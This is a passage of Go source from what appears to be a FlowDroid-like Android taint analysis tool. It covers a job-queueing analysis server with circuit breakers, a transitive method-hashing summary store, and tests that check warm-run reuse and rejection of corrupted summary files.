	if c.Analyses <= 0 {
		c.Analyses = 2
	}
	if c.WorkerBudget <= 0 {
		c.WorkerBudget = runtime.GOMAXPROCS(0)
	}
	if c.DefaultDeadline <= 0 {
		c.DefaultDeadline = 2 * time.Minute
	}
	if c.MaxDeadline <= 0 {
		c.MaxDeadline = 10 * time.Minute
	}
	if c.BreakerTrip == 0 {
		c.BreakerTrip = 3
	}
	if c.BreakerCooldown <= 0 {
		c.BreakerCooldown = 30 * time.Second
	}
	if c.RetainJobs <= 0 {
		c.RetainJobs = 1024
	}
	return c
}

// Request is one analysis submission: the app package plus the
// per-request bounds. Unset bounds inherit the server defaults.
type Request struct {
	// Files is the in-memory app package (manifest, layouts, IR code),
	// the same map core.AnalyzeFiles loads.
	Files map[string]string `json:"files"`
	// Deadline bounds this job's analysis; 0 inherits the server
	// default, values above the server maximum are clamped.
	Deadline time.Duration `json:"deadline,omitempty"`
	// MaxPropagations is the taint propagation budget (0 inherits the
	// server default).
	MaxPropagations int `json:"maxPropagations,omitempty"`
	// Degrade enables the CHA/access-path degradation ladder on budget
	// exhaustion.
	Degrade bool `json:"degrade,omitempty"`
	// APLength overrides the maximal access-path length (0 = paper
	// default of 5).
	APLength int `json:"apLength,omitempty"`
	// UseCHA selects the CHA call graph instead of points-to.
	UseCHA bool `json:"useCHA,omitempty"`
	// Lint runs the IR verifier before the solvers; Error diagnostics
	// end the job with status InvalidProgram.
	Lint bool `json:"lint,omitempty"`
	// Sinks restricts the analysis to the named sink selectors (demand-
	// driven query mode); empty analyzes all sinks. The report is the
	// whole-program report filtered to the queried sinks. Unknown
	// selectors fail the job.
	Sinks []string `json:"sinks,omitempty"`
}

// JobState is the lifecycle of an admitted job.
type JobState int

const (
	// Queued means admitted but not yet picked up by an executor.
	Queued JobState = iota
	// Running means an executor is analyzing the app.
	Running
	// Done means the analysis returned a core.Result (which itself may
	// report a truncated status such as DeadlineExceeded).
	Done
	// Failed means the job produced no result: the app failed to load or
	// the analysis died outside core's own stage recovery.
	Failed
)

func (s JobState) String() string {
	switch s {
	case Queued:
		return "queued"
	case Running:
		return "running"
	case Done:
		return "done"
	case Failed:
		return "failed"
	}
	return "unknown"
}

// job is the internal mutable job record; all fields are guarded by
// Server.mu after construction.
type job struct {
	id          string
	fingerprint string
	state       JobState
	workers     int
	submitted   time.Time
	started     time.Time
	finished    time.Time
	req         Request
	result      *core.Result
	err         error
}

// JobView is an immutable snapshot of a job, safe to hold outside the
// server lock. Result is nil until the job is Done; a Done result is
// never mutated afterwards, so sharing the pointer is safe.
type JobView struct {
	ID          string
	Fingerprint string
	State       JobState
	// Workers is the taint-worker share granted from the global budget
	// (0 until the job starts).
	Workers                      int
	Submitted, Started, Finished time.Time
	Result                       *core.Result
	Err                          error
}

// Admission errors. ErrQueueFull and ErrDraining are retriable from the
// client's point of view (the HTTP layer maps them to 429 and 503);
// CircuitOpenError carries the remaining cooldown.
var (
	ErrQueueFull = errors.New("service: job queue full")
	ErrDraining  = errors.New("service: draining, not admitting jobs")
)

// CircuitOpenError rejects a submission whose app fingerprint has a
// tripped circuit breaker.
type CircuitOpenError struct {
	Fingerprint string
	// RetryAfter is the remaining cooldown before a probe is admitted.
	RetryAfter time.Duration
}

func (e *CircuitOpenError) Error() string {
	return fmt.Sprintf("service: circuit open for app %s (retry in %v)", e.Fingerprint, e.RetryAfter.Round(time.Millisecond))
}

// JobFingerprint keys a submission for the circuit breaker and job
// identity: the app package's content fingerprint, suffixed with the
// sink-query fingerprint when the request queries specific sinks. The
// same app under different queries runs different pipelines (different
// cones, different dummy mains), so their failure histories must not
// pollute each other's breaker state.
func JobFingerprint(req Request) string {
	fp := Fingerprint(req.Files)
	if qfp := (core.Query{Sinks: req.Sinks}).Fingerprint(); qfp != "" {
		fp += "+" + qfp
	}
	return fp
}

// Fingerprint content-hashes an app package: sorted file names and
// contents. Two submissions of byte-identical packages share a
// fingerprint — the unit the circuit breaker keys on.
func Fingerprint(files map[string]string) string {
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	h := sha256.New()
	for _, n := range names {
		fmt.Fprintf(h, "%s\x00%d\x00", n, len(files[n]))
		h.Write([]byte(files[n]))
	}
	return hex.EncodeToString(h.Sum(nil))[:16]
}

// Server is the resident analysis service. Create with New, submit with
// Submit, stop with Shutdown.
type Server struct {
	cfg Config
	rec *metrics.Recorder

	// runCtx parents every job context; cancelRun deadline-cancels all
	// in-flight analyses during a forced drain.
	runCtx    context.Context
	cancelRun context.CancelFunc

	queue  chan *job
	wg     sync.WaitGroup
	budget *workerBudget
	brk    *breaker
	// store is the shared persistent summary store (nil without
	// Config.SummaryDir); core scopes sessions by app and configuration
	// fingerprint, so concurrent jobs share it safely.
	store *summarystore.Store

	mu       sync.Mutex
	draining bool
	jobs     map[string]*job
	finished []string // finished job IDs in completion order, for eviction
	nextID   int

	// beforeJob, when set (tests only), runs at the start of each job
	// with the job's bounded context; blocking it holds the executor.
	beforeJob func(ctx context.Context, id string)

	cSubmitted     *metrics.Counter
	cRejectedFull  *metrics.Counter
	cRejectedOpen  *metrics.Counter
	cRejectedDrain *metrics.Counter
	cDone          *metrics.Counter
	cFailed        *metrics.Counter
	cTripped       *metrics.Counter
	gQueue         *metrics.Gauge
	gActive        *metrics.Gauge
	gLeased        *metrics.Gauge
}

// New starts a Server: its executors begin waiting for jobs
// immediately. Stop it with Shutdown.
func New(cfg Config) *Server {
	cfg = cfg.withDefaults()
	ctx, cancel := context.WithCancel(context.Background())
	s := &Server{
		cfg:       cfg,
		rec:       cfg.Recorder,
		runCtx:    ctx,
		cancelRun: cancel,
		queue:     make(chan *job, cfg.QueueSize),
		budget:    newWorkerBudget(cfg.WorkerBudget, cfg.Analyses),
		brk:       newBreaker(cfg.BreakerTrip, cfg.BreakerCooldown),
		store:     summarystore.Open(cfg.SummaryDir),
		jobs:      make(map[string]*job),

		cSubmitted:     cfg.Recorder.Counter("service.submitted", metrics.Schedule),
		cRejectedFull:  cfg.Recorder.Counter("service.rejected.queue_full", metrics.Schedule),
		cRejectedOpen:  cfg.Recorder.Counter("service.rejected.circuit_open", metrics.Schedule),
		cRejectedDrain: cfg.Recorder.Counter("service.rejected.draining", metrics.Schedule),
		cDone:          cfg.Recorder.Counter("service.completed", metrics.Schedule),
		cFailed:        cfg.Recorder.Counter("service.failed", metrics.Schedule),
		cTripped:       cfg.Recorder.Counter("service.breaker.tripped", metrics.Schedule),
		gQueue:         cfg.Recorder.Gauge("service.queue.depth", metrics.Schedule),
		gActive:        cfg.Recorder.Gauge("service.active", metrics.Schedule),
		gLeased:        cfg.Recorder.Gauge("service.workers.leased", metrics.Schedule),
	}
	for i := 0; i < cfg.Analyses; i++ {
		s.wg.Add(1)
		go s.executor()
	}
	return s
}

// Config returns the server's effective (defaulted) configuration.
func (s *Server) Config() Config { return s.cfg }

// Submit admits a job or rejects it without buffering. Rejections:
// ErrDraining once Shutdown started, *CircuitOpenError when the app's
// fingerprint has a tripped breaker, ErrQueueFull when the queue is at
// capacity. An admitted job is queryable via Job until evicted.
func (s *Server) Submit(req Request) (JobView, error) {
	if len(req.Files) == 0 {
		return JobView{}, errors.New("service: empty app package")
	}
	fp := JobFingerprint(req)
	s.mu.Lock()
	if s.draining {
		s.mu.Unlock()
		s.cRejectedDrain.Add(1)
		return JobView{}, ErrDraining
	}
	if wait, open := s.brk.deny(fp, time.Now()); open {
		s.mu.Unlock()
		s.cRejectedOpen.Add(1)
		return JobView{}, &CircuitOpenError{Fingerprint: fp, RetryAfter: wait}
	}
	s.nextID++
	j := &job{
		id:          fmt.Sprintf("job-%d", s.nextID),
		fingerprint: fp,
		state:       Queued,
		submitted:   time.Now(),
		req:         req,
	}
	select {
	case s.queue <- j:
		s.jobs[j.id] = j
		s.gQueue.Add(1)
		view := snapshot(j)
		s.mu.Unlock()
		s.cSubmitted.Add(1)
		return view, nil
	default:
		s.nextID-- // the ID was never exposed
		s.mu.Unlock()
		s.cRejectedFull.Add(1)
		return JobView{}, ErrQueueFull
	}
}

// Job returns a snapshot of the job, or ok == false for an unknown (or
// evicted) ID.
func (s *Server) Job(id string) (JobView, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	j, ok := s.jobs[id]
	if !ok {
		return JobView{}, false
	}
	return snapshot(j), true
}

// Jobs returns snapshots of all retained jobs in submission order.
func (s *Server) Jobs() []JobView {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]JobView, 0, len(s.jobs))
	for _, j := range s.jobs {
		out = append(out, snapshot(j))
	}
	sort.Slice(out, func(i, k int) bool { return out[i].Submitted.Before(out[k].Submitted) })
	return out
}

// Stats is the live health view /healthz serves.
type Stats struct {
	Draining   bool  `json:"draining"`
	QueueDepth int64 `json:"queueDepth"`
	QueueCap   int   `json:"queueCap"`
	Active     int64 `json:"active"`
	Retained   int   `json:"retainedJobs"`
}

// Stats reports the server's live state.
func (s *Server) Stats() Stats {
	s.mu.Lock()
	defer s.mu.Unlock()
	return Stats{
		Draining:   s.draining,
		QueueDepth: int64(len(s.queue)),
		QueueCap:   s.cfg.QueueSize,
		Active:     s.gActive.Load(),
		Retained:   len(s.jobs),
	}
}

func snapshot(j *job) JobView {
	return JobView{
		ID:          j.id,
		Fingerprint: j.fingerprint,
		State:       j.state,
		Workers:     j.workers,
		Submitted:   j.submitted,
		Started:     j.started,
		Finished:    j.finished,
		Result:      j.result,
		Err:         j.err,
	}
}

// executor drains the queue until it is closed (drain) and empty.
func (s *Server) executor() {
	defer s.wg.Done()
	for j := range s.queue {
		s.runJob(j)
	}
}

// runJob analyzes one admitted job under its bounds and records the
// outcome. Panics that escape core's own stage recovery are contained
// here so an executor can never die.
func (s *Server) runJob(j *job) {
	s.gQueue.Add(-1)
	grant := s.budget.acquire()
	s.gLeased.Set(int64(s.budget.leasedNow()))
	s.mu.Lock()
	j.state = Running
	j.started = time.Now()
	j.workers = grant
	s.mu.Unlock()
	s.gActive.Add(1)

	deadline := j.req.Deadline
	if deadline <= 0 {
		deadline = s.cfg.DefaultDeadline
	}
	if deadline > s.cfg.MaxDeadline {
		deadline = s.cfg.MaxDeadline
	}
	ctx := metrics.Into(s.runCtx, s.rec)
	ctx, cancel := context.WithTimeout(ctx, deadline)

	if hook := s.beforeJob; hook != nil {
		hook(ctx, j.id)
	}

	opts := core.DefaultOptions()
	opts.Taint.Workers = grant
	opts.MaxPropagations = j.req.MaxPropagations
	if opts.MaxPropagations == 0 {
		opts.MaxPropagations = s.cfg.DefaultMaxPropagations
	}
	opts.Degrade = j.req.Degrade
	opts.UseCHA = j.req.UseCHA
	opts.Lint = j.req.Lint
	opts.Query = core.Query{Sinks: j.req.Sinks}
	if j.req.APLength > 0 {
		opts.Taint.APLength = j.req.APLength
	}
	opts.Taint.StringCarriers = !s.cfg.DisableStringCarriers
	opts.ResolveReflection = !s.cfg.DisableReflection
	opts.SummaryStore = s.store

	res, err := analyze(ctx, j.req.Files, opts)
	cancel()
	s.budget.release(grant)
	s.gLeased.Set(int64(s.budget.leasedNow()))
	s.gActive.Add(-1)

	bad := err != nil || res.Status == core.Recovered || res.Status == core.InvalidProgram
	if s.brk.record(j.fingerprint, bad, time.Now()) {
		s.cTripped.Add(1)
	}

	s.mu.Lock()
	j.finished = time.Now()
	j.result, j.err = res, err
	if err != nil {
		j.state = Failed
	} else {
		j.state = Done
	}
	s.retire(j.id)
	s.mu.Unlock()
	if err != nil {
		s.cFailed.Add(1)
	} else {
		s.cDone.Add(1)
	}
}

// analyze runs one bounded analysis, converting any panic that escapes
// the pipeline's own stage recovery into an error so the executor
// survives (the same backstop the corpus driver uses).
func analyze(ctx context.Context, files map[string]string, opts core.Options) (res *core.Result, err error) {
	defer func() {
		if r := recover(); r != nil {
			res, err = nil, fmt.Errorf("service: analysis panicked: %v", r)
		}
	}()
	return core.AnalyzeFiles(ctx, files, opts)
}

// retire appends a finished job to the eviction order and evicts the
// oldest finished jobs beyond the retention cap. Caller holds s.mu.
func (s *Server) retire(id string) {
	s.finished = append(s.finished, id)
	for len(s.finished) > s.cfg.RetainJobs {
		delete(s.jobs, s.finished[0])
		s.finished = s.finished[1:]
	}
}

// Shutdown drains the server: admission stops immediately (Submit
// returns ErrDraining), queued and in-flight jobs run to completion,
// and every executor exits. If ctx expires first, all in-flight
// analyses are context-cancelled — they finish quickly with partial
// DeadlineExceeded results — and Shutdown still waits for the
// executors before returning ctx's error. Shutdown is idempotent;
// later calls wait for the same drain.
func (s *Server) Shutdown(ctx context.Context) error {
	s.mu.Lock()
	already := s.draining
	s.draining = true
	if !already {
		close(s.queue)
	}
	s.mu.Unlock()

	done := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(done)
	}()
	var forced error
	select {
	case <-done:
	case <-ctx.Done():
		forced = ctx.Err()
		s.cancelRun()
		<-done
	}
	s.cancelRun()
	return forced
}
