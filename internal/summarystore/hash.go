// Package summarystore is a disk-backed, versioned store of taint
// method summaries for warm re-analysis: the per-method end summaries
// (and the alias-derived facts folded into them) that the IFDS solvers
// compute die with the process today, so re-scanning version N+1 of an
// app repays the whole cost. The store keys each summary by a content
// hash of the method body *plus* the fingerprints of everything its
// call subtree can reach — a hash match therefore validates the entire
// subtree and makes the transitive summary (including the leaks found
// below the method) safe to replay verbatim.
//
// Invalidation needs no explicit dependency tracking: the scene's
// resolution results are hashed into every call site, so a hierarchy
// change that redirects virtual dispatch, adds an override, or turns a
// stub into a body changes the hashes of every method whose subtree is
// affected, and their entries simply stop matching.
//
// The discipline mirrors the in-memory pass pipeline's: corrupt,
// truncated, or version-mismatched entries are misses, never errors,
// and partial summaries from truncated runs are never persisted (the
// taint engine only hands summaries over on Completed runs, and the
// session only writes on Flush).
package summarystore

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash"
	"io"
	"sort"

	"flowdroid/internal/callgraph"
	"flowdroid/internal/ir"
)

// HashMethods computes the transitive content hash of every method
// reachable in the built call graph (plus every resolved callee, so
// abstract stubs participate in their callers' hashes). The hash of a
// method covers:
//
//   - its own signature, staticness, locals and statement list,
//     including the *resolved* field of every field access (field
//     resolution is a hierarchy fact, not a syntactic one), and
//   - per call site, the sorted signatures of the methods the call
//     graph resolved it to (including bodyless targets — whether a
//     call has a stub target changes the library-default flows), and
//   - the hashes of every method transitively reachable from it,
//     condensed over strongly connected components so recursion cycles
//     hash to a fixed point.
//
// Two programs assigning a method the same hash therefore agree on its
// entire call subtree, byte for byte and resolution for resolution.
func HashMethods(graph *callgraph.Graph) map[*ir.Method]string {
	if graph == nil {
		return nil
	}
	// Collect the node set: reachable methods and everything they call.
	local := make(map[*ir.Method]string)
	succs := make(map[*ir.Method][]*ir.Method)
	var order []*ir.Method
	add := func(m *ir.Method) {
		if _, ok := local[m]; ok {
			return
		}
		local[m] = "" // reserve before recursion-free expansion below
		order = append(order, m)
	}
	for _, m := range graph.Reachable() {
		add(m)
	}
	for i := 0; i < len(order); i++ {
		m := order[i]
		var out []*ir.Method
		seen := make(map[*ir.Method]bool)
		for _, s := range m.Body() {
			if !ir.IsCall(s) {
				continue
			}
			for _, c := range graph.CalleesOf(s) {
				if c == nil || seen[c] {
					continue
				}
				seen[c] = true
				out = append(out, c)
				add(c)
			}
		}
		succs[m] = out
	}
	for _, m := range order {
		local[m] = localHash(m, graph)
	}

	sccs := condense(order, succs)
	// sccs come out of Tarjan in reverse topological order: every
	// successor SCC is finished before the SCC that reaches it.
	sccHash := make(map[int]string)
	sccOf := make(map[*ir.Method]int)
	for i, scc := range sccs {
		for _, m := range scc {
			sccOf[m] = i
		}
	}
	for i, scc := range sccs {
		members := make([]string, 0, len(scc))
		for _, m := range scc {
			members = append(members, local[m])
		}
		sort.Strings(members)
		succSet := make(map[int]bool)
		for _, m := range scc {
			for _, c := range succs[m] {
				if j := sccOf[c]; j != i {
					succSet[j] = true
				}
			}
		}
		below := make([]string, 0, len(succSet))
		for j := range succSet {
			below = append(below, sccHash[j])
		}
		sort.Strings(below)
		h := sha256.New()
		io.WriteString(h, "scc\x00")
		for _, s := range members {
			io.WriteString(h, s)
			io.WriteString(h, "\x00")
		}
		io.WriteString(h, "|")
		for _, s := range below {
			io.WriteString(h, s)
			io.WriteString(h, "\x00")
		}
		sccHash[i] = hex.EncodeToString(h.Sum(nil))
	}

	out := make(map[*ir.Method]string, len(order))
	for _, m := range order {
		h := sha256.New()
		io.WriteString(h, local[m])
		io.WriteString(h, "@")
		io.WriteString(h, sccHash[sccOf[m]])
		out[m] = hex.EncodeToString(h.Sum(nil))
	}
	return out
}

// localHash hashes one method's own content: signature, locals,
// statements with resolved field references, and per-call-site resolved
// callee signatures.
func localHash(m *ir.Method, graph *callgraph.Graph) string {
	h := sha256.New()
	io.WriteString(h, m.String())
	io.WriteString(h, "\x00")
	if m.Static {
		io.WriteString(h, "static")
	}
	io.WriteString(h, m.Return.String())
	io.WriteString(h, "\x00")
	for _, l := range m.Locals() {
		io.WriteString(h, l.Name)
		io.WriteString(h, ":")
		io.WriteString(h, l.Type.String())
		io.WriteString(h, "\x00")
	}
	for i, s := range m.Body() {
		writeInt(h, i)
		io.WriteString(h, s.String())
		io.WriteString(h, "\x00")
		io.WriteString(h, s.Label())
		io.WriteString(h, "\x00")
		hashStmtRefs(h, s)
		if ir.IsCall(s) {
			sigs := make([]string, 0, 4)
			for _, c := range graph.CalleesOf(s) {
				sig := c.String()
				if c.Abstract() {
					sig += "/abstract"
				}
				sigs = append(sigs, sig)
			}
			sort.Strings(sigs)
			for _, sig := range sigs {
				io.WriteString(h, sig)
				io.WriteString(h, "\x00")
			}
		}
	}
	return hex.EncodeToString(h.Sum(nil))
}

func writeInt(h hash.Hash, v int) {
	var buf [8]byte
	binary.LittleEndian.PutUint64(buf[:], uint64(v))
	h.Write(buf[:])
}

// hashStmtRefs folds resolved references into the statement hash:
// Stmt.String renders field accesses by name only, but which declared
// field a name resolves to is a hierarchy fact that the transfer
// functions depend on (access paths are chains of resolved *ir.Field).
// Branch targets are hashed by index for the same reason — labels are
// cosmetic, the resolved target is what the CFG uses.
func hashStmtRefs(h hash.Hash, s ir.Stmt) {
	switch s := s.(type) {
	case *ir.AssignStmt:
		hashValueRefs(h, s.LHS)
		hashValueRefs(h, s.RHS)
	case *ir.InvokeStmt:
		hashValueRefs(h, s.Call)
	case *ir.ReturnStmt:
		hashValueRefs(h, s.Value)
	case *ir.IfStmt:
		writeInt(h, s.TargetIndex)
	case *ir.GotoStmt:
		writeInt(h, s.TargetIndex)
	}
}

func hashValueRefs(h hash.Hash, v ir.Value) {
	switch v := v.(type) {
	case nil:
		return
	case *ir.FieldRef:
		io.WriteString(h, fieldSig(v.Field))
		io.WriteString(h, "\x00")
	case *ir.StaticFieldRef:
		io.WriteString(h, fieldSig(v.Field))
		io.WriteString(h, "\x00")
	case *ir.ArrayRef:
		hashValueRefs(h, v.Index)
	case *ir.Binop:
		hashValueRefs(h, v.L)
		hashValueRefs(h, v.R)
	case *ir.Cast:
		hashValueRefs(h, v.X)
	case *ir.InvokeExpr:
		for _, a := range v.Args {
			hashValueRefs(h, a)
		}
	}
}

func fieldSig(f *ir.Field) string {
	if f == nil {
		return "?"
	}
	return fmt.Sprintf("%s#%s:%v:%s", f.Class.Name, f.Name, f.Static, f.Type.String())
}

// condense returns the strongly connected components of the call
// relation in reverse topological order (successors before the
// components that reach them) — Tarjan's invariant, implemented
// iteratively so deep call chains cannot overflow the stack.
func condense(nodes []*ir.Method, succs map[*ir.Method][]*ir.Method) [][]*ir.Method {
	index := make(map[*ir.Method]int, len(nodes))
	low := make(map[*ir.Method]int, len(nodes))
	onStack := make(map[*ir.Method]bool, len(nodes))
	var stack []*ir.Method
	var sccs [][]*ir.Method
	next := 0

	type frame struct {
		m  *ir.Method
		si int // next successor to visit
	}
	for _, root := range nodes {
		if _, ok := index[root]; ok {
			continue
		}
		frames := []frame{{m: root}}
		index[root] = next
		low[root] = next
		next++
		stack = append(stack, root)
		onStack[root] = true
		for len(frames) > 0 {
			f := &frames[len(frames)-1]
			if f.si < len(succs[f.m]) {
				c := succs[f.m][f.si]
				f.si++
				if _, ok := index[c]; !ok {
					index[c] = next
					low[c] = next
					next++
					stack = append(stack, c)
					onStack[c] = true
					frames = append(frames, frame{m: c})
				} else if onStack[c] && index[c] < low[f.m] {
					low[f.m] = index[c]
				}
				continue
			}
			// f.m is finished.
			if low[f.m] == index[f.m] {
				var scc []*ir.Method
				for {
					top := stack[len(stack)-1]
					stack = stack[:len(stack)-1]
					onStack[top] = false
					scc = append(scc, top)
					if top == f.m {
						break
					}
				}
				sccs = append(sccs, scc)
			}
			m := f.m
			frames = frames[:len(frames)-1]
			if len(frames) > 0 {
				p := frames[len(frames)-1].m
				if low[m] < low[p] {
					low[p] = low[m]
				}
			}
		}
	}
	return sccs
}
