package summarystore

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"flowdroid/internal/callgraph"
	"flowdroid/internal/cfg"
	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/pta"
	"flowdroid/internal/sourcesink"
	"flowdroid/internal/taint"
)

const testRules = `
source <Src: secret/0> -> return label secret
sink <Snk: leak/1> -> arg0 label leak
`

// testSrc is a small interprocedural program: one real leak through an
// identity helper, one clean flow through a constant-returning helper.
const testSrc = `
class Src {
  static method secret(): java.lang.String;
}
class Snk {
  static method leak(x: java.lang.String): void;
}
class Help {
  static method id(x: java.lang.String): java.lang.String {
    y = x.trim()
    return y
  }
  static method wash(x: java.lang.String): java.lang.String {
    r = "clean"
    return r
  }
  static method deep(x: java.lang.String): java.lang.String {
    z = Help.id(x)
    return z
  }
}
class Main {
  static method main(): void {
    a = Src.secret()
    b = Help.deep(a)
    Snk.leak(b)
    c = "ok"
    d = Help.wash(c)
    Snk.leak(d)
    return
  }
}
`

// build parses the program and assembles the analysis inputs.
func build(t *testing.T, src string) (*ir.Program, *callgraph.Graph, *cfg.ICFG, *sourcesink.Manager, *ir.Method) {
	t.Helper()
	prog := framework.NewProgram()
	if err := irtext.ParseInto(prog, src, "test.ir"); err != nil {
		t.Fatal(err)
	}
	if err := prog.Link(); err != nil {
		t.Fatal(err)
	}
	main := prog.Class("Main").Method("main", 0)
	if main == nil {
		t.Fatal("Main.main/0 not found")
	}
	graph := pta.Build(context.Background(), prog, main).Graph
	icfg := cfg.NewICFG(prog, graph)
	mgr, err := sourcesink.Parse(prog, testRules)
	if err != nil {
		t.Fatal(err)
	}
	return prog, graph, icfg, mgr, main
}

// byName reindexes a method-hash map by method signature, for comparing
// hashes across separately parsed program instances.
func byName(hashes map[*ir.Method]string) map[string]string {
	out := make(map[string]string, len(hashes))
	for m, h := range hashes {
		out[m.String()] = h
	}
	return out
}

func TestHashMethodsStable(t *testing.T) {
	_, g1, _, _, _ := build(t, testSrc)
	_, g2, _, _, _ := build(t, testSrc)
	h1, h2 := byName(HashMethods(g1)), byName(HashMethods(g2))
	if len(h1) == 0 {
		t.Fatal("no methods hashed")
	}
	for sig, h := range h1 {
		if h2[sig] != h {
			t.Errorf("%s: hash differs across identical parses: %s vs %s", sig, h, h2[sig])
		}
	}
}

func TestHashMethodsSensitivity(t *testing.T) {
	_, g1, _, _, _ := build(t, testSrc)
	// Mutate Help.id's body only.
	mutated := strings.Replace(testSrc, "y = x.trim()", "y = x.trim()\n    u = \"upd\"", 1)
	_, g2, _, _, _ := build(t, mutated)
	h1, h2 := byName(HashMethods(g1)), byName(HashMethods(g2))

	changed := []string{"Help.id/1", "Help.deep/1", "Main.main/0"} // callee + its transitive callers
	for _, sig := range changed {
		if h1[sig] == "" || h2[sig] == "" {
			t.Fatalf("%s: missing hash (%q / %q)", sig, h1[sig], h2[sig])
		}
		if h1[sig] == h2[sig] {
			t.Errorf("%s: hash did not change after callee mutation", sig)
		}
	}
	for _, sig := range []string{"Help.wash/1"} {
		if h1[sig] != h2[sig] {
			t.Errorf("%s: hash of untouched method changed", sig)
		}
	}
}

// runWith analyzes testSrc, opening a session over the given store if
// any, and flushes it afterwards, as the pipeline does. The session is
// created from the run's own call graph — summaries are keyed by
// *ir.Method pointers, so it must share the analysis's program instance.
// Each call parses the program afresh, simulating a new process.
func runWith(t *testing.T, store *Store) *taint.Results {
	t.Helper()
	_, graph, icfg, mgr, main := build(t, testSrc)
	conf := taint.DefaultConfig()
	var sess *Session
	if store != nil {
		sess = store.Session("test.app", "fp", HashMethods(graph))
		conf.Summaries = sess
	}
	res := taint.Analyze(context.Background(), icfg, mgr, conf, main)
	if res.Status != taint.Completed {
		t.Fatalf("run did not complete: %v", res.Status)
	}
	if sess != nil {
		if err := sess.Flush(); err != nil {
			t.Fatalf("flush: %v", err)
		}
	}
	return res
}

// sessionFor additionally exposes the parsed graph's hash map and a
// method-by-signature resolver for corruption targeting.
func sessionFor(t *testing.T, dir string) (*Session, map[*ir.Method]string) {
	t.Helper()
	_, graph, _, _, _ := build(t, testSrc)
	hashes := HashMethods(graph)
	return Open(dir).Session("test.app", "fp", hashes), hashes
}

func methodBySig(hashes map[*ir.Method]string, sig string) *ir.Method {
	for m := range hashes {
		if m.String() == sig {
			return m
		}
	}
	return nil
}

func TestWarmRunMatchesColdByteForByte(t *testing.T) {
	dir := t.TempDir()

	baseline := runWith(t, nil)
	want, err := baseline.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}

	cold := runWith(t, Open(dir))
	if st := cold.Stats.Store; st == nil || st.Persisted == 0 {
		t.Fatalf("cold run persisted nothing: %+v", cold.Stats.Store)
	} else if st.Hits != 0 {
		t.Fatalf("cold run reported hits: %+v", st)
	}
	coldJSON, err := cold.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(coldJSON, want) {
		t.Fatalf("cold store run changed the report:\n%s\nvs\n%s", coldJSON, want)
	}

	warm := runWith(t, Open(dir))
	st := warm.Stats.Store
	if st == nil || st.Hits == 0 {
		t.Fatalf("warm run hit nothing: %+v", st)
	}
	if st.MethodsReused == 0 {
		t.Fatalf("warm run reused no methods: %+v", st)
	}
	warmJSON, err := warm.CanonicalJSON()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(warmJSON, want) {
		t.Fatalf("warm report differs from cold:\n%s\nvs\n%s", warmJSON, want)
	}
	if warm.Stats.ForwardEdges >= cold.Stats.ForwardEdges {
		t.Errorf("warm run did not save forward edges: warm %d, cold %d",
			warm.Stats.ForwardEdges, cold.Stats.ForwardEdges)
	}
}

// corruptOneFile locates the session's file for sig and rewrites it via
// mutate. Fatals if the file does not exist yet.
func corruptOneFile(t *testing.T, dir, sig string, mutate func([]byte) []byte) {
	t.Helper()
	sess, hashes := sessionFor(t, dir)
	m := methodBySig(hashes, sig)
	if m == nil {
		t.Fatalf("method %s not found", sig)
	}
	path := sess.path(m)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("summary file for %s: %v", sig, err)
	}
	if err := os.WriteFile(path, mutate(data), 0o644); err != nil {
		t.Fatal(err)
	}
}

func lookupStatus(t *testing.T, dir, sig, shape string) taint.LookupStatus {
	t.Helper()
	sess, hashes := sessionFor(t, dir)
	m := methodBySig(hashes, sig)
	if m == nil {
		t.Fatalf("method %s not found", sig)
	}
	_, st := sess.Lookup(m, shape)
	return st
}

// anyShape returns one persisted shape key from sig's summary file.
func anyShape(t *testing.T, dir, sig string) string {
	t.Helper()
	sess, hashes := sessionFor(t, dir)
	m := methodBySig(hashes, sig)
	if m == nil {
		t.Fatalf("method %s not found", sig)
	}
	data, err := os.ReadFile(sess.path(m))
	if err != nil {
		t.Fatalf("summary file for %s: %v", sig, err)
	}
	var rec fileRecord
	if err := json.Unmarshal(data, &rec); err != nil {
		t.Fatal(err)
	}
	for shape := range rec.Entries {
		return shape
	}
	t.Fatalf("no shapes persisted for %s", sig)
	return ""
}

func TestCorruptEntriesAreMisses(t *testing.T) {
	const sig = "Help.id/1"
	seed := func(t *testing.T) (string, string) {
		dir := t.TempDir()
		runWith(t, Open(dir)) // cold run persists
		shape := anyShape(t, dir, sig)
		if st := lookupStatus(t, dir, sig, shape); st != taint.LookupHit {
			t.Fatalf("seed store does not serve %s shape %q: %v", sig, shape, st)
		}
		return dir, shape
	}

	t.Run("bit-flip", func(t *testing.T) {
		dir, shape := seed(t)
		corruptOneFile(t, dir, sig, func(b []byte) []byte {
			b[len(b)/2] ^= 0xff
			return b
		})
		if st := lookupStatus(t, dir, sig, shape); st != taint.LookupCorrupt {
			t.Errorf("bit-flipped file: got %v, want corrupt", st)
		}
	})
	t.Run("truncated", func(t *testing.T) {
		dir, shape := seed(t)
		corruptOneFile(t, dir, sig, func(b []byte) []byte { return b[:len(b)/3] })
		if st := lookupStatus(t, dir, sig, shape); st != taint.LookupCorrupt {
			t.Errorf("truncated file: got %v, want corrupt", st)
		}
	})
	t.Run("wrong-version", func(t *testing.T) {
		dir, shape := seed(t)
		corruptOneFile(t, dir, sig, func(b []byte) []byte {
			return bytes.Replace(b, []byte(`"formatVersion": 1`), []byte(`"formatVersion": 99`), 1)
		})
		if st := lookupStatus(t, dir, sig, shape); st != taint.LookupCorrupt {
			t.Errorf("version-mismatched file: got %v, want corrupt", st)
		}
	})
	t.Run("absent", func(t *testing.T) {
		dir, shape := seed(t)
		sess, hashes := sessionFor(t, dir)
		m := methodBySig(hashes, sig)
		if err := os.Remove(sess.path(m)); err != nil {
			t.Fatal(err)
		}
		if st := lookupStatus(t, dir, sig, shape); st != taint.LookupMiss {
			t.Errorf("absent file: got %v, want miss", st)
		}
	})
	t.Run("stale-hash", func(t *testing.T) {
		dir, shape := seed(t)
		_, graph, _, _, _ := build(t, testSrc)
